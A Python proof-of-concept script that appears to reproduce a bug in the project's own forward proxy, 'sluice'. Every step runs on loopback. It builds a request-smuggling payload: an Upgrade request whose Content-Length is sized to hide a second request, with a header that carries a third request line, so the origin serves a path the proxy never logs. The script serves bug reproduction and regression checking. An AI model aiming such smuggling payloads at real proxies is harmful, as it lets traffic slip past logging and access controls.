#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""End-to-end demonstration of the rewrite-framing finding (see
fuzz/crashes/README.md): an Upgrade request with a Content-Length makes
sluice and the origin disagree on where the next request starts.

    fuzz/crashes/rewrite/desync_demo.py build/sluice

Starts a loopback origin that answers each request as soon as its head
arrives and then reads the body its Content-Length announces (as many
servers do for a GET with a body), runs sluice in front of it, and sends
one client request whose body is a second request. Prints what the origin
parsed and what sluice logged. With the bug, the origin serves
/not-logged-by-sluice, which sluice never saw or logged.
"""
import os
import socket
import subprocess
import sys
import tempfile
import threading
import time


def origin(srv, seen):
    def handle(c):
        buf = b''
        while True:
            while b'\r\n\r\n' not in buf:
                d = c.recv(65536)
                if not d:
                    return
                buf += d
            head, buf = buf.split(b'\r\n\r\n', 1)
            line = head.split(b'\r\n')[0]
            seen.append(line)
            target = line.split(b' ')[1]
            c.sendall(b'HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n'
                      % len(target) + target)
            cl = 0
            for f in head.split(b'\r\n')[1:]:
                k, _, v = f.partition(b':')
                if k.strip().lower() == b'content-length':
                    cl = int(v)
            while len(buf) < cl:
                d = c.recv(65536)
                if not d:
                    return
                buf += d
            buf = buf[cl:]
    while True:
        c, _ = srv.accept()
        threading.Thread(target=handle, args=(c,), daemon=True).start()


def main():
    sluice = sys.argv[1] if len(sys.argv) > 1 else 'build/sluice'
    srv = socket.socket()
    srv.bind(('127.0.0.1', 0))
    srv.listen(5)
    oport = srv.getsockname()[1]
    seen = []
    threading.Thread(target=origin, args=(srv, seen), daemon=True).start()

    d = tempfile.mkdtemp()
    with open(os.path.join(d, 'hosts'), 'w') as f:
        f.write('127.0.0.1 origin.test\n')
    conf = os.path.join(d, 'sluice.conf')
    with open(conf, 'w') as f:
        f.write('listen 127.0.0.1:0\nallow origin.test\n'
                'allow_cidr 127.0.0.0/8\nhttp_ports %d\nhosts_file hosts\n'
                'allow_unauthenticated yes\naccess_log stdout\n' % oport)
    p = subprocess.Popen([sluice, 'serve', '-c', conf],
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    port = None
    for line in p.stderr:
        if b'listening on 127.0.0.1:' in line:
            port = int(line.rsplit(b':', 1)[1])
            break

    second = (b'GET http://origin.test:%d/second HTTP/1.1\r\n'
              b'Host: origin.test\r\n'
              b'X-A: GET /not-logged-by-sluice HTTP/1.1\r\n\r\n' % oport)
    # What rewrite.c sends upstream for `second`, to aim Content-Length.
    rewritten = (b'GET /second HTTP/1.1\r\nHost: origin.test:%d\r\n'
                 b'X-A: GET /not-logged-by-sluice HTTP/1.1\r\n'
                 b'Via: 1.1 sluice\r\n\r\n' % oport)
    cl = rewritten.index(b'GET /not-logged')
    first = (b'GET http://origin.test:%d/first HTTP/1.1\r\n'
             b'Host: origin.test\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n'
             b'Content-Length: %d\r\n\r\n' % (oport, cl))
    s = socket.create_connection(('127.0.0.1', port))
    s.sendall(first + second)
    s.settimeout(2)
    got = b''
    try:
        while True:
            b = s.recv(65536)
            if not b:
                break
            got += b
    except socket.timeout:
        pass
    p.terminate()
    out, _ = p.communicate()
    print('client received:', got)
    print('origin parsed:  ', seen)
    print('sluice logged:  ', out.decode().strip().splitlines())
    bad = any(b'not-logged' in x for x in seen)
    print('DESYNC: the origin served a request sluice never saw' if bad
          else 'no desync observed')
    return 1 if bad else 0


if __name__ == '__main__':
    sys.exit(main())
